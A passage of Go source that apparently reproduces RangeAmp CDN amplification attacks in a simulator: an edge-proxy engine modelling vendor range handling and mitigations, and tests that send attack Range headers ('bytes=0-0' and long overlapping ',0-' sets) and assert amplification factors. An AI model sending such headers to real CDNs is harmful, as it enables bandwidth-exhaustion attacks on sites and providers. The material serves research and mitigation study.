	resp = r.get(t, "/target.bin?cb=2", "bytes=0-0")
	if resp.StatusCode != httpwire.StatusBadGateway {
		t.Fatalf("second request: status = %d", resp.StatusCode)
	}
}

func TestLazyRelayOfTruncatedOrigin(t *testing.T) {
	// A lazily-forwarded single range under the failure threshold works;
	// a larger one dies upstream and surfaces as 502.
	r := newFaultyRig(t, vendor.CDN77(), 64<<10, 4<<10)
	resp := r.get(t, "/target.bin", "bytes=2048-2058") // 11B relay, under threshold
	if resp.StatusCode != 206 || len(resp.Body) != 11 {
		t.Fatalf("small lazy relay: status=%d len=%d", resp.StatusCode, len(resp.Body))
	}
	resp = r.get(t, "/target.bin", "bytes=2048-10000") // ~8KB, over threshold
	if resp.StatusCode != httpwire.StatusBadGateway {
		t.Fatalf("truncated lazy relay: status=%d", resp.StatusCode)
	}
}
