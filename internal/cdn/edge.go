// Package cdn implements the CDN edge-node proxy engine. An Edge
// interprets a vendor.Profile: it checks the vendor's request-header
// limits, consults the edge cache, runs the vendor's back-to-origin
// Behaviour over an instrumented upstream connection, and builds the
// client-facing reply under the vendor's multi-range reply policy.
//
// Cascading two Edges (the FCDN's upstream address pointing at the
// BCDN's listener) reproduces the paper's Fig 3b topology for the OBR
// attack.
package cdn

import (
	"errors"
	"fmt"
	"time"

	"repro/internal/cache"
	"repro/internal/httpwire"
	"repro/internal/metrics"
	"repro/internal/netsim"
	"repro/internal/ranges"
	"repro/internal/trace"
	"repro/internal/vendor"
)

// UpstreamDialer opens back-to-origin connections. netsim.Network and
// transport.Dialer both satisfy it.
type UpstreamDialer interface {
	Dial(addr string, seg *netsim.Segment) (netsim.Conn, error)
}

// Inspector screens inbound requests before the edge pipeline runs —
// the §VI-C detection mitigation (detect.Detector satisfies it).
type Inspector interface {
	Screen(req *httpwire.Request) (malicious bool, reason string)
}

// Config assembles an Edge.
type Config struct {
	Profile      *vendor.Profile
	Network      *netsim.Network // in-memory transport; used when Dialer is nil
	Dialer       UpstreamDialer  // overrides Network (e.g. real TCP)
	UpstreamAddr string          // origin (or BCDN) listener address
	UpstreamSeg  *netsim.Segment // segment the back-to-origin traffic counts on
	Cache        *cache.Cache    // nil builds a default cache from the profile
	DisableCache bool            // force every request to miss (malicious-customer config)
	Inspector    Inspector       // optional request screening (nil = off)
	Trace        *trace.Tracer   // span sink (nil = trace.Default, disabled unless configured)

	// UpstreamPool enables persistent back-to-origin connections: each
	// fetch borrows a pooled keep-alive connection instead of paying a
	// fresh dial/close cycle. Nil keeps the per-request dial path the
	// paper's per-connection observations were measured on.
	UpstreamPool *PoolConfig

	// Collapse enables singleflight request collapsing: concurrent
	// cache misses on one key trigger exactly one upstream fetch, the
	// rest wait and share the fetched object. Off by default — a
	// collapsing edge is a mitigation posture, not the measured one.
	Collapse bool

	// Metrics is the registry the edge's per-vendor series (and those of
	// the default cache and upstream pool it builds) resolve against at
	// construction. Nil means metrics.Default — the daemon-facing
	// fallback so cdnsim's /metrics keeps working; per-run topologies
	// inject their Runtime's registry here.
	Metrics *metrics.Registry
}

// Edge is one CDN edge node.
type Edge struct {
	profile      *vendor.Profile
	dialer       UpstreamDialer
	upstreamAddr string
	upstreamSeg  *netsim.Segment
	cache        *cache.Cache
	disableCache bool
	collapse     bool
	pool         *connPool // nil = dial per fetch
	state        *vendor.EdgeState
	inspector    Inspector
	tracer       *trace.Tracer
	node         string // span/trace node label, "<vendor>-edge"

	// Per-vendor registry series, resolved once here so the request
	// path is pure atomic adds.
	mRequests       *metrics.Counter
	mRejectLimits   *metrics.Counter
	mRejectDetector *metrics.Counter
	mRejectOverlap  *metrics.Counter
	mUpstream       *metrics.Counter
	mTruncations    *metrics.Counter
	hDuration       *metrics.Histogram
}

// NewEdge builds an edge node for cfg.
func NewEdge(cfg Config) (*Edge, error) {
	dialer := cfg.Dialer
	if dialer == nil && cfg.Network != nil {
		dialer = cfg.Network
	}
	if cfg.Profile == nil || dialer == nil || cfg.UpstreamAddr == "" {
		return nil, errors.New("cdn: Profile, a transport (Network or Dialer) and UpstreamAddr are required")
	}
	reg := cfg.Metrics
	if reg == nil {
		reg = metrics.Default
	}
	c := cfg.Cache
	if c == nil {
		c = cache.New(cache.Config{IncludeQueryInKey: true, Metrics: reg})
	}
	tracer := cfg.Trace
	if tracer == nil {
		tracer = trace.Default
	}
	vend := metrics.L("vendor", cfg.Profile.Name)
	const rejectName = "cdn_rejections_total"
	const rejectHelp = "Requests refused before any upstream traffic, by reason."
	var pool *connPool
	if cfg.UpstreamPool != nil {
		pool = newConnPool(reg, *cfg.UpstreamPool, dialer, cfg.UpstreamAddr, cfg.UpstreamSeg, vend)
	}
	return &Edge{
		profile:      cfg.Profile,
		dialer:       dialer,
		upstreamAddr: cfg.UpstreamAddr,
		upstreamSeg:  cfg.UpstreamSeg,
		cache:        c,
		disableCache: cfg.DisableCache || !cfg.Profile.CacheByDefault,
		collapse:     cfg.Collapse,
		pool:         pool,
		state:        vendor.NewEdgeState(),
		inspector:    cfg.Inspector,
		tracer:       tracer,
		node:         cfg.Profile.Name + "-edge",
		mRequests: reg.Counter("cdn_requests_total",
			"Requests handled by an edge, per vendor.", vend),
		mRejectLimits:   reg.Counter(rejectName, rejectHelp, vend, metrics.L("reason", "limits")),
		mRejectDetector: reg.Counter(rejectName, rejectHelp, vend, metrics.L("reason", "detector")),
		mRejectOverlap:  reg.Counter(rejectName, rejectHelp, vend, metrics.L("reason", "overlap")),
		mUpstream: reg.Counter("cdn_upstream_fetches_total",
			"Back-to-origin requests issued, per vendor.", vend),
		mTruncations: reg.Counter("cdn_upstream_truncations_total",
			"Upstream reads cut at a body limit (the Azure 8MiB rule), per vendor.", vend),
		hDuration: reg.Histogram("cdn_request_duration_us",
			"Edge request handling latency in microseconds, per vendor.", vend),
	}, nil
}

// Profile returns the edge's vendor profile.
func (e *Edge) Profile() *vendor.Profile { return e.profile }

// Cache returns the edge cache (for stats and test inspection).
func (e *Edge) Cache() *cache.Cache { return e.cache }

// Close releases the edge's pooled upstream connections. Safe on an
// edge without a pool, and safe to call more than once.
func (e *Edge) Close() error {
	if e.pool != nil {
		e.pool.Close()
	}
	return nil
}

// ReapIdleUpstream evicts pooled upstream connections idle past the
// pool's timeout, returning how many were dropped (0 without a pool).
func (e *Edge) ReapIdleUpstream() int {
	if e.pool == nil {
		return 0
	}
	return e.pool.ReapIdle()
}

// IdleUpstreamConns returns the pool's current idle connection count
// (0 without a pool).
func (e *Edge) IdleUpstreamConns() int {
	if e.pool == nil {
		return 0
	}
	return e.pool.IdleConns()
}

// Serve accepts connections until the listener closes.
func (e *Edge) Serve(l *netsim.Listener) {
	for {
		conn, err := l.Accept()
		if err != nil {
			return
		}
		go e.ServeConn(conn)
	}
}

// ServeConn handles one client connection with keep-alive semantics.
// I/O buffers come from the httpwire pools so connection churn under a
// flood does not allocate per-connection.
func (e *Edge) ServeConn(conn netsim.Conn) {
	defer conn.Close()
	br := httpwire.GetReader(conn)
	defer httpwire.PutReader(br)
	bw := httpwire.GetWriter(conn)
	defer httpwire.PutWriter(bw)
	for {
		req, err := httpwire.ReadRequest(br, httpwire.Limits{})
		if err != nil {
			return
		}
		resp := e.Handle(req)
		if _, err := resp.WriteTo(bw); err != nil {
			return
		}
		if err := bw.Flush(); err != nil {
			return
		}
		if v, _ := req.Headers.Get("Connection"); v == "close" {
			return
		}
	}
}

// Handle runs the full edge pipeline for one request, accounting the
// request count and handling latency around the inner pipeline. When
// the tracer is enabled it opens this hop's server span, joining the
// trace carried by the request's traceparent header (or rooting a new
// one for un-contexted traffic).
func (e *Edge) Handle(req *httpwire.Request) *httpwire.Response {
	e.mRequests.Inc()
	start := time.Now()
	var sp *trace.Span
	if e.tracer.Enabled() {
		sp = e.tracer.StartServer(trace.Extract(req.Headers), e.node, req.Method+" "+req.Target)
		if sp.Recording() {
			sp.SetAttr("vendor", e.profile.Name)
			if v, ok := req.Headers.Get("Range"); ok {
				sp.SetAttr("range", truncateNote(v))
			}
		}
	}
	resp := e.handle(req, sp)
	if sp.Recording() {
		sp.SetAttrInt("status", int64(resp.StatusCode))
	}
	sp.End()
	e.hDuration.Observe(time.Since(start).Microseconds())
	return resp
}

// handle is the edge pipeline body; sp is this hop's server span (nil
// when the request is not being traced).
func (e *Edge) handle(req *httpwire.Request, sp *trace.Span) *httpwire.Response {
	sp.Eventf(trace.KindRequest, "%s %s range=%s", req.Method, req.Target, headerOr(req, "Range", "-"))
	if err := e.profile.Limits.Check(req); err != nil {
		sp.Eventf(trace.KindRejected, "header limits: %v", err)
		e.mRejectLimits.IncEx(sp.TraceIDString())
		return e.errorResponse(httpwire.StatusHeaderTooLarge, err.Error())
	}
	if e.inspector != nil {
		if malicious, reason := e.inspector.Screen(req); malicious {
			sp.Eventf(trace.KindRejected, "detector: %s", reason)
			e.mRejectDetector.IncEx(sp.TraceIDString())
			return e.errorResponse(403, "request blocked: "+reason)
		}
	}

	rawRange, hasRange := req.Headers.Get("Range")
	var set ranges.Set
	if hasRange {
		if parsed, err := ranges.Parse(rawRange); err == nil {
			set = parsed
		}
	}

	// A rejecting edge (the RFC 7233 §6.1 mitigation) refuses obviously
	// overlapping multi-range requests before spending any upstream
	// traffic on them.
	if e.profile.MultiRangeReply == vendor.ReplyReject &&
		len(set) > 1 && set.OverlappingSpecs() {
		sp.Event(trace.KindRejected, "overlapping ranges (reject policy)")
		e.mRejectOverlap.IncEx(sp.TraceIDString())
		return e.errorResponse(httpwire.StatusBadRequest, "overlapping byte ranges rejected")
	}

	cacheable := e.cacheUsable()
	key, keyOK := e.cache.Key(req.Target)
	cacheable = cacheable && keyOK

	if cacheable && e.collapse {
		return e.handleCollapsed(req, rawRange, hasRange, set, key, sp)
	}
	if cacheable {
		if obj, ok := e.cache.Get(req.Target); ok {
			sp.Eventf(trace.KindCacheHit, "%s (%dB cached)", req.Target, obj.Size)
			return e.replyFromObject(req, set, hasRange, cachedObject(obj))
		}
		sp.Eventf(trace.KindCacheMiss, "%s", req.Target)
	}
	return e.fetchAndReply(req, rawRange, hasRange, set, key, sp, cacheable)
}

// handleCollapsed is the miss path under singleflight collapsing: the
// cache elects one leader per key to run the vendor behaviour; misses
// that land while it is in flight wait and serve the leader's object.
func (e *Edge) handleCollapsed(req *httpwire.Request, rawRange string, hasRange bool, set ranges.Set, key string, sp *trace.Span) *httpwire.Response {
	// resp is set iff this request became the leader and ran the fetch
	// itself (its reply may be a relay or an error, neither of which a
	// cached object could reproduce).
	var resp *httpwire.Response
	obj, collapsed, _ := e.cache.Do(req.Target, func() (*cache.Object, error) {
		sp.Eventf(trace.KindCacheMiss, "%s", req.Target)
		ret, err := e.retrieve(req, rawRange, hasRange, set, key, sp)
		if err != nil {
			resp = e.errorResponse(httpwire.StatusBadGateway, err.Error())
			return nil, err
		}
		resp = e.replyToRetrieval(req, set, hasRange, ret, sp)
		return cacheableObject(ret), nil
	})
	if resp != nil {
		return resp
	}
	if obj != nil {
		if collapsed {
			sp.Eventf(trace.KindCollapse, "%s served by in-flight fetch (%dB)", req.Target, obj.Size)
		} else {
			sp.Eventf(trace.KindCacheHit, "%s (%dB cached)", req.Target, obj.Size)
		}
		return e.replyFromObject(req, set, hasRange, cachedObject(obj))
	}
	// The leader failed or produced an uncacheable outcome (relay,
	// partial object): fall back to a private fetch.
	sp.Eventf(trace.KindCacheMiss, "%s", req.Target)
	return e.fetchAndReply(req, rawRange, hasRange, set, key, sp, false)
}

// fetchAndReply runs the vendor behaviour for one miss, caches a
// complete 200 object when allowed, and builds the client reply.
func (e *Edge) fetchAndReply(req *httpwire.Request, rawRange string, hasRange bool, set ranges.Set, key string, sp *trace.Span, cacheable bool) *httpwire.Response {
	ret, err := e.retrieve(req, rawRange, hasRange, set, key, sp)
	if err != nil {
		return e.errorResponse(httpwire.StatusBadGateway, err.Error())
	}
	if cacheable {
		if obj := cacheableObject(ret); obj != nil {
			e.cache.Put(req.Target, obj)
		}
	}
	return e.replyToRetrieval(req, set, hasRange, ret, sp)
}

// retrieve runs the vendor's back-to-origin behaviour for one request.
func (e *Edge) retrieve(req *httpwire.Request, rawRange string, hasRange bool, set ranges.Set, key string, sp *trace.Span) (*vendor.Retrieval, error) {
	rc := &vendor.RequestContext{
		Raw:      rawRange,
		HasRange: hasRange,
		Set:      set,
		Path:     req.Path(),
		SizeHint: e.state.SizeHint(req.Path()),
		State:    e.state,
		Key:      key,
	}
	up := &upstreamFetcher{edge: e, clientReq: req, span: sp}
	return e.profile.Behaviour(up, rc, &e.profile.Options)
}

// replyToRetrieval turns a behaviour outcome into the client reply.
func (e *Edge) replyToRetrieval(req *httpwire.Request, set ranges.Set, hasRange bool, ret *vendor.Retrieval, sp *trace.Span) *httpwire.Response {
	if ret.Relay != nil {
		sp.Eventf(trace.KindRelay, "HTTP %d, %dB body", ret.Relay.StatusCode, ret.Relay.BodySize())
		return e.relay(ret.Relay)
	}
	obj := ret.Object
	sp.Eventf(trace.KindReply, "object offset=%d size=%d complete=%v",
		obj.Offset, obj.CompleteSize, obj.Complete())
	return e.replyFromObject(req, set, hasRange, obj)
}

// cacheableObject converts a behaviour outcome into its cache entry, or
// nil when the outcome is not cacheable (a relay, an error status, or
// an incomplete object).
func cacheableObject(ret *vendor.Retrieval) *cache.Object {
	if ret.Relay != nil || ret.Object == nil {
		return nil
	}
	obj := ret.Object
	if !obj.Complete() || obj.UpstreamStatus != httpwire.StatusOK {
		return nil
	}
	return &cache.Object{Body: obj.Body, ContentType: obj.ContentType, Size: obj.CompleteSize}
}

// cachedObject adapts a cache entry back into the vendor object shape
// the reply builder consumes.
func cachedObject(obj *cache.Object) *vendor.Object {
	return &vendor.Object{Body: obj.Body, CompleteSize: obj.Size, ContentType: obj.ContentType}
}

// headerOr returns a header value or a placeholder.
func headerOr(req *httpwire.Request, name, placeholder string) string {
	if v, ok := req.Headers.Get(name); ok {
		return truncateNote(v)
	}
	return placeholder
}

// truncateNote keeps trace annotations short: OBR attack headers run to
// hundreds of KB and would otherwise dominate the trace buffer.
func truncateNote(v string) string {
	if len(v) > 48 {
		return v[:45] + "..."
	}
	return v
}

// cacheUsable reports whether this edge caches at all under its current
// configuration (Cloudflare's Bypass rule disables it, as does the
// malicious-customer DisableCache switch).
func (e *Edge) cacheUsable() bool {
	if e.disableCache {
		return false
	}
	if e.profile.Options.CloudflareBypass {
		return false
	}
	return true
}

// relay passes an upstream response to the client with this edge's
// headers appended (the Laziness path). The shallow clone shares the
// upstream body — nothing on the relay path mutates it, and for an OBR
// reply the body is the full n-part flood, so the deep copy here was
// one of the largest allocations per request.
func (e *Edge) relay(upstream *httpwire.Response) *httpwire.Response {
	resp := upstream.CloneShared()
	for _, h := range e.profile.EdgeHeaders() {
		if !resp.Headers.Has(h.Name) {
			resp.Headers.Add(h.Name, h.Value)
		}
	}
	return resp
}

func (e *Edge) errorResponse(code int, msg string) *httpwire.Response {
	resp := httpwire.NewResponse(code)
	for _, h := range e.profile.EdgeHeaders() {
		resp.Headers.Add(h.Name, h.Value)
	}
	resp.Headers.Set("Content-Type", "text/plain")
	resp.SetBody([]byte(msg + "\n"))
	return resp
}

// upstreamFetcher implements vendor.Upstream over the edge's network.
type upstreamFetcher struct {
	edge      *Edge
	clientReq *httpwire.Request
	span      *trace.Span // the edge's server span; fetches become its children
}

var _ vendor.Upstream = (*upstreamFetcher)(nil)

// Fetch issues one back-to-origin request. Each fetch opens its own
// connection so the paper's per-connection traffic observations
// (Azure's two cdn-origin connections) hold. Under tracing, each fetch
// is a child span carrying the forwarded Range and the segment's byte
// delta — the per-hop view that makes Laziness (range forwarded, small
// fetch) vs Deletion (range deleted, full-object fetch) subtrees
// visibly different.
func (u *upstreamFetcher) Fetch(rangeHeader string, maxBody int64) (*httpwire.Response, bool, error) {
	req := u.clientReq.Clone()
	req.Headers.Del("Range")
	if rangeHeader != "" {
		req.Headers.Add("Range", rangeHeader)
	}
	if u.edge.pool == nil {
		// Per-request mode closes the upstream connection after one
		// exchange; pooled mode keeps HTTP/1.1's implicit keep-alive.
		req.Headers.Set("Connection", "close")
	} else {
		// The clone may carry the client's own Connection: close; the
		// hop-by-hop header must not leak onto the persistent upstream
		// connection or the origin hangs up after every exchange.
		req.Headers.Del("Connection")
	}
	req.Headers.Add("Via", "1.1 "+u.edge.profile.Name)
	rangeNote := "(deleted)"
	if rangeHeader != "" {
		rangeNote = truncateNote(rangeHeader)
	}
	u.span.Eventf(trace.KindUpstream, "-> %s range=%s maxBody=%d",
		u.edge.upstreamAddr, rangeNote, maxBody)

	var usp *trace.Span
	var before netsim.Traffic
	if u.span.Recording() {
		usp = u.span.StartChild("fetch " + u.edge.upstreamAddr)
		usp.SetAttr("range", rangeNote)
		if seg := u.edge.upstreamSeg; seg != nil {
			usp.SetAttr("segment", seg.Name)
		}
		before = u.edge.upstreamSeg.Traffic()
	}
	// Replace (or, untraced, strip) the inbound traceparent so the next
	// hop parents to this fetch, never to a stale upstream context.
	trace.Inject(usp, &req.Headers)
	done := func(status int, truncated bool, err error) {
		if !usp.Recording() {
			return
		}
		d := u.edge.upstreamSeg.Since(before)
		usp.SetAttrInt("bytes_up", d.Up)
		usp.SetAttrInt("bytes_down", d.Down)
		if status != 0 {
			usp.SetAttrInt("status", int64(status))
		}
		if truncated {
			usp.SetAttrInt("truncated", 1)
		}
		if err != nil {
			usp.SetAttr("error", err.Error())
		}
		usp.End()
	}

	u.edge.mUpstream.Inc()
	limit := int64(-1)
	if maxBody > 0 {
		limit = maxBody
	}
	if u.edge.pool != nil {
		resp, truncated, err := u.fetchPooled(req, limit)
		if err != nil {
			done(0, false, err)
			return nil, false, err
		}
		if truncated {
			u.edge.mTruncations.IncEx(u.span.TraceIDString())
		}
		done(resp.StatusCode, truncated, nil)
		return resp, truncated, nil
	}
	conn, err := u.edge.dialer.Dial(u.edge.upstreamAddr, u.edge.upstreamSeg)
	if err != nil {
		err = fmt.Errorf("dial upstream %s: %w", u.edge.upstreamAddr, err)
		done(0, false, err)
		return nil, false, err
	}
	defer conn.Close()
	if _, err := req.WriteTo(conn); err != nil {
		err = fmt.Errorf("write upstream request: %w", err)
		done(0, false, err)
		return nil, false, err
	}
	upr := httpwire.GetReader(conn)
	defer httpwire.PutReader(upr)
	resp, truncated, err := httpwire.ReadResponseLimited(upr, httpwire.Limits{}, limit)
	if err != nil {
		err = fmt.Errorf("read upstream response: %w", err)
		done(0, false, err)
		return nil, false, err
	}
	if truncated {
		u.edge.mTruncations.IncEx(u.span.TraceIDString())
	}
	done(resp.StatusCode, truncated, nil)
	return resp, truncated, nil
}

// fetchPooled performs one exchange over a pooled persistent upstream
// connection. A reused connection that fails is presumed stale (the
// peer idle-closed it between fetches): it is evicted and the exchange
// retried once on a fresh dial. A connection left dirty by the exchange
// (truncated body, close-delimited framing, Connection: close) is
// discarded; a clean one goes back to the pool for the next fetch.
func (u *upstreamFetcher) fetchPooled(req *httpwire.Request, limit int64) (*httpwire.Response, bool, error) {
	pool := u.edge.pool
	pc, reused, err := pool.get()
	if err != nil {
		return nil, false, fmt.Errorf("dial upstream %s: %w", u.edge.upstreamAddr, err)
	}
	if reused {
		u.span.Eventf(trace.KindPool, "reuse upstream conn (%d idle)", pool.IdleConns())
	}
	resp, truncated, err := exchange(pc, req, limit)
	if err != nil && reused {
		pool.discard(pc)
		u.span.Eventf(trace.KindPool, "stale pooled conn, redial: %v", err)
		pc, _, err = pool.dial()
		if err != nil {
			return nil, false, fmt.Errorf("dial upstream %s: %w", u.edge.upstreamAddr, err)
		}
		resp, truncated, err = exchange(pc, req, limit)
	}
	if err != nil {
		pool.discard(pc)
		return nil, false, fmt.Errorf("pooled upstream exchange: %w", err)
	}
	if truncated || !resp.KeepsConnReusable() {
		pool.discard(pc)
	} else {
		pool.put(pc)
	}
	return resp, truncated, nil
}

// exchange writes one request and parses one response on a persistent
// connection, using the connection's own long-lived reader (parse
// read-ahead must survive into the next exchange).
func exchange(pc *pooledConn, req *httpwire.Request, limit int64) (*httpwire.Response, bool, error) {
	if _, err := req.WriteTo(pc.conn); err != nil {
		return nil, false, fmt.Errorf("write upstream request: %w", err)
	}
	return httpwire.ReadResponseLimited(pc.br, httpwire.Limits{}, limit)
}
