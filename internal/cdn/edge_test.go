package cdn

import (
	"strings"
	"testing"

	"repro/internal/httpwire"
	"repro/internal/multipart"
	"repro/internal/netsim"
	"repro/internal/origin"
	"repro/internal/resource"
	"repro/internal/trace"
	"repro/internal/vendor"
)

// rig is a client -> edge -> origin topology over instrumented segments.
type rig struct {
	net       *netsim.Network
	edge      *Edge
	origin    *origin.Server
	clientSeg *netsim.Segment
	originSeg *netsim.Segment
}

func newRig(t *testing.T, profile *vendor.Profile, resourceSize int64, originRanges bool) *rig {
	t.Helper()
	store := resource.NewStore()
	store.AddSynthetic("/target.bin", resourceSize, "application/octet-stream")
	osrv := origin.NewServer(store, origin.Config{RangeSupport: originRanges})

	net := netsim.NewNetwork()
	originL, err := net.Listen("origin:80")
	if err != nil {
		t.Fatal(err)
	}
	go osrv.Serve(originL)
	t.Cleanup(func() { originL.Close() })

	originSeg := netsim.NewSegment("cdn-origin")
	edge, err := NewEdge(Config{
		Profile:      profile,
		Network:      net,
		UpstreamAddr: "origin:80",
		UpstreamSeg:  originSeg,
	})
	if err != nil {
		t.Fatal(err)
	}
	edgeL, err := net.Listen("edge:80")
	if err != nil {
		t.Fatal(err)
	}
	go edge.Serve(edgeL)
	t.Cleanup(func() { edgeL.Close() })

	return &rig{
		net:       net,
		edge:      edge,
		origin:    osrv,
		clientSeg: netsim.NewSegment("client-cdn"),
		originSeg: originSeg,
	}
}

func (r *rig) get(t *testing.T, target, rangeHeader string) *httpwire.Response {
	t.Helper()
	req := httpwire.NewRequest("GET", target, "site.example")
	if rangeHeader != "" {
		req.Headers.Add("Range", rangeHeader)
	}
	resp, err := origin.Fetch(r.net, "edge:80", r.clientSeg, req)
	if err != nil {
		t.Fatal(err)
	}
	return resp
}

func TestSBRThroughCloudflare(t *testing.T) {
	// The paper's Fig 4 flow: client sends bytes=0-0, the edge strips it,
	// the origin ships the whole resource, the client gets one byte.
	const size = 1 << 20
	r := newRig(t, vendor.Cloudflare(), size, true)
	resp := r.get(t, "/target.bin?cb=1", "bytes=0-0")

	if resp.StatusCode != 206 {
		t.Fatalf("status = %d", resp.StatusCode)
	}
	if len(resp.Body) != 1 {
		t.Fatalf("client body = %d bytes", len(resp.Body))
	}
	originLog := r.origin.Log()
	if len(originLog) != 1 || originLog[0].HasRange {
		t.Fatalf("origin log = %+v, want one rangeless request", originLog)
	}
	down := r.originSeg.Traffic().Down
	clientDown := r.clientSeg.Traffic().Down
	if down < size {
		t.Errorf("cdn-origin response traffic = %d, want >= %d", down, size)
	}
	if clientDown > 2048 {
		t.Errorf("client-cdn response traffic = %d, want tiny", clientDown)
	}
	factor := float64(down) / float64(clientDown)
	if factor < 500 {
		t.Errorf("amplification factor = %.0f, want >= 500 at 1MB", factor)
	}
}

func TestCacheHitServesWithoutOrigin(t *testing.T) {
	r := newRig(t, vendor.Cloudflare(), 4096, true)
	r.get(t, "/target.bin", "bytes=0-0")
	r.get(t, "/target.bin", "bytes=1-1")
	if n := len(r.origin.Log()); n != 1 {
		t.Errorf("origin saw %d requests, want 1 (second served from cache)", n)
	}
	if st := r.edge.Cache().Stats(); st.Hits != 1 {
		t.Errorf("cache stats = %+v", st)
	}
}

func TestQueryStringBustsEdgeCache(t *testing.T) {
	r := newRig(t, vendor.Cloudflare(), 4096, true)
	r.get(t, "/target.bin?cb=1", "bytes=0-0")
	r.get(t, "/target.bin?cb=2", "bytes=0-0")
	if n := len(r.origin.Log()); n != 2 {
		t.Errorf("origin saw %d requests, want 2 (distinct query strings)", n)
	}
}

func TestEdgeAddsVendorHeaders(t *testing.T) {
	r := newRig(t, vendor.Cloudflare(), 4096, true)
	resp := r.get(t, "/target.bin", "bytes=0-0")
	if v, _ := resp.Headers.Get("Server"); v != "cloudflare" {
		t.Errorf("Server = %q", v)
	}
	if !resp.Headers.Has("CF-Ray") {
		t.Error("edge headers missing")
	}
}

func TestLazyRelayKeepsOriginHeaders(t *testing.T) {
	// CDN77 forwards first>=1024 ranges lazily and relays the origin 206.
	r := newRig(t, vendor.CDN77(), 4096, true)
	resp := r.get(t, "/target.bin", "bytes=2048-2049")
	if resp.StatusCode != 206 || len(resp.Body) != 2 {
		t.Fatalf("status=%d len=%d", resp.StatusCode, len(resp.Body))
	}
	if v, _ := resp.Headers.Get("Server"); v != origin.ServerSoftware {
		t.Errorf("Server = %q, want relayed origin header", v)
	}
	if !resp.Headers.Has("X-77-POP") {
		t.Error("edge headers not appended on relay")
	}
	log := r.origin.Log()
	if len(log) != 1 || log[0].RangeHeader != "bytes=2048-2049" {
		t.Errorf("origin log = %+v", log)
	}
}

func TestOBRCascade(t *testing.T) {
	// Fig 3b/Fig 5: client -> FCDN(Cloudflare, Bypass) -> BCDN(Akamai) ->
	// origin with range support disabled.
	store := resource.NewStore()
	store.AddSynthetic("/1KB.bin", 1024, "application/octet-stream")
	osrv := origin.NewServer(store, origin.Config{RangeSupport: false})

	net := netsim.NewNetwork()
	originL, _ := net.Listen("origin:80")
	go osrv.Serve(originL)
	defer originL.Close()

	bcdnOriginSeg := netsim.NewSegment("bcdn-origin")
	bcdn, err := NewEdge(Config{
		Profile: vendor.Akamai(), Network: net,
		UpstreamAddr: "origin:80", UpstreamSeg: bcdnOriginSeg,
	})
	if err != nil {
		t.Fatal(err)
	}
	bcdnL, _ := net.Listen("bcdn:80")
	go bcdn.Serve(bcdnL)
	defer bcdnL.Close()

	fcdnProfile := vendor.Cloudflare()
	fcdnProfile.Options.CloudflareBypass = true
	fcdnBcdnSeg := netsim.NewSegment("fcdn-bcdn")
	fcdn, err := NewEdge(Config{
		Profile: fcdnProfile, Network: net,
		UpstreamAddr: "bcdn:80", UpstreamSeg: fcdnBcdnSeg,
	})
	if err != nil {
		t.Fatal(err)
	}
	fcdnL, _ := net.Listen("fcdn:80")
	go fcdn.Serve(fcdnL)
	defer fcdnL.Close()

	const n = 50
	clientSeg := netsim.NewSegment("client-fcdn")
	req := httpwire.NewRequest("GET", "/1KB.bin", "site.example")
	req.Headers.Add("Range", "bytes=0-"+strings.Repeat(",0-", n-1))
	resp, err := origin.Fetch(net, "fcdn:80", clientSeg, req)
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != 206 {
		t.Fatalf("status = %d", resp.StatusCode)
	}
	ct, _ := resp.Headers.Get("Content-Type")
	boundary, ok := multipart.ParseContentTypeValue(ct)
	if !ok {
		t.Fatalf("Content-Type = %q", ct)
	}
	msg, err := multipart.Decode(resp.Body, boundary)
	if err != nil {
		t.Fatal(err)
	}
	if len(msg.Parts) != n {
		t.Fatalf("reply has %d parts, want %d", len(msg.Parts), n)
	}
	for i, p := range msg.Parts {
		if p.Window.Length != 1024 {
			t.Fatalf("part %d window = %+v", i, p.Window)
		}
	}

	// Traffic shape: bcdn-origin carries ~1 copy, fcdn-bcdn carries ~n.
	toOrigin := bcdnOriginSeg.Traffic().Down
	between := fcdnBcdnSeg.Traffic().Down
	if toOrigin > 4096 {
		t.Errorf("bcdn-origin response traffic = %d, want < 4KB", toOrigin)
	}
	if between < int64(n)*1024 {
		t.Errorf("fcdn-bcdn response traffic = %d, want >= %d", between, n*1024)
	}
	factor := float64(between) / float64(toOrigin)
	if factor < float64(n)/2 {
		t.Errorf("OBR amplification = %.1f, want >= %.1f", factor, float64(n)/2)
	}
	// The origin saw a rangeless request (Akamai stripped the set).
	log := osrv.Log()
	if len(log) != 1 || log[0].HasRange {
		t.Errorf("origin log = %+v", log)
	}
}

func TestAzureIgnoresRangeBeyond64(t *testing.T) {
	r := newRig(t, vendor.Azure(), 1024, false)
	resp := r.get(t, "/target.bin", "bytes=0-"+strings.Repeat(",0-", 64)) // 65 ranges
	if resp.StatusCode != 200 {
		t.Fatalf("status = %d, want 200 (Range ignored)", resp.StatusCode)
	}
	if len(resp.Body) != 1024 {
		t.Errorf("body = %d bytes", len(resp.Body))
	}
	// Exactly 64 is served as a 64-part response.
	resp = r.get(t, "/target.bin?x=1", "bytes=0-"+strings.Repeat(",0-", 63))
	ct, _ := resp.Headers.Get("Content-Type")
	boundary, ok := multipart.ParseContentTypeValue(ct)
	if !ok {
		t.Fatalf("Content-Type = %q", ct)
	}
	msg, err := multipart.Decode(resp.Body, boundary)
	if err != nil {
		t.Fatal(err)
	}
	if len(msg.Parts) != 64 {
		t.Errorf("parts = %d, want 64", len(msg.Parts))
	}
}

func TestCoalesceReplyMergesOverlap(t *testing.T) {
	// A coalescing vendor (Fastly) answers overlapping ranges with one part.
	r := newRig(t, vendor.Fastly(), 4096, true)
	resp := r.get(t, "/target.bin", "bytes=0-100,50-200")
	if resp.StatusCode != 206 {
		t.Fatalf("status = %d", resp.StatusCode)
	}
	if v, _ := resp.Headers.Get("Content-Range"); v != "bytes 0-200/4096" {
		t.Errorf("Content-Range = %q, want coalesced window", v)
	}
	if len(resp.Body) != 201 {
		t.Errorf("body = %d bytes", len(resp.Body))
	}
}

func TestDisjointMultiRangeStaysMultipart(t *testing.T) {
	r := newRig(t, vendor.Fastly(), 4096, true)
	resp := r.get(t, "/target.bin", "bytes=0-0,100-100")
	ct, _ := resp.Headers.Get("Content-Type")
	boundary, ok := multipart.ParseContentTypeValue(ct)
	if !ok {
		t.Fatalf("Content-Type = %q", ct)
	}
	msg, err := multipart.Decode(resp.Body, boundary)
	if err != nil {
		t.Fatal(err)
	}
	if len(msg.Parts) != 2 {
		t.Errorf("parts = %d", len(msg.Parts))
	}
}

func TestUnsatisfiableRangeFromEdge(t *testing.T) {
	r := newRig(t, vendor.Akamai(), 1024, true)
